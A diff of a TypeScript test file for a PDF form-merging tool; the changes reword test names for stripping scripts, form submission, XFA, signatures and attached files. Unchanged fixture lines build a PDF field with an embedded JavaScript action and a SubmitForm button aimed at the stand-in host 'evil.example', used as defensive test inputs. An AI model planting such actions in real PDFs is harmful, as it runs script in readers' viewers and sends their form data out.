@@ -117,8 +117,8 @@ describe('forms', () => {
   });
 });
 
-describe('what a form does', () => {
-  it('goes: scripts, submitting, XFA', async () => {
+describe('merging a form', () => {
+  it('removes scripts, submitting and XFA', async () => {
     const script = '/AA <</K <</S /JavaScript /JS (evil\\(\\))>>>>';
     const button = text('send', '/A <</S /SubmitForm /F (http://evil.example)>>');
     const source = form({ 10: text('a', script), 11: button }, '/XFA (xfa-data)');
@@ -128,7 +128,7 @@ describe('what a form does', () => {
     expect(await fieldNames(pdf)).toEqual(['a', 'send']);
   });
 
-  it('goes: signatures, but what they show stays where it is', async () => {
+  it('removes signatures, but keeps their appearance', async () => {
     const look = {
       dict: '/Subtype /Form /BBox [0 0 90 20] /Resources <</Font <</F1 5 0 R>>>>',
       data: 'BT /F1 9 Tf 2 5 Td (Signed by Ann) Tj ET',
@@ -161,7 +161,7 @@ describe('what a form does', () => {
     expect(await fieldNames(pdf)).toEqual(['empty']);
   });
 
-  it('goes: attached files, wherever they hang', async () => {
+  it('removes attached files, wherever they are attached', async () => {
     const look = { dict: '/Subtype /Form /BBox [0 0 20 20]', data: '0 0 20 20 re f' };
     const objects = onePage('', '/Annots [10 0 R 11 0 R] /AF [12 0 R]');
     objects[1] = '<</Type /Catalog /Pages 2 0 R /Names <</EmbeddedFiles <</Names [(a) 12 0 R]>>>>>>';
@@ -181,7 +181,7 @@ describe('what a form does', () => {
   });
 });
 
-/** The objects of a document that was built here, so that some can be added. */
+/** The objects of a generated document, so that a test can add some. */
 function objectsOf(pdf: Uint8Array): Objects {
   const found = [...latin1(pdf).matchAll(/(\d+) 0 obj\n([\s\S]*?)\nendobj/g)];
   const plain = found.filter(([, , body]) => !body?.includes('stream'));
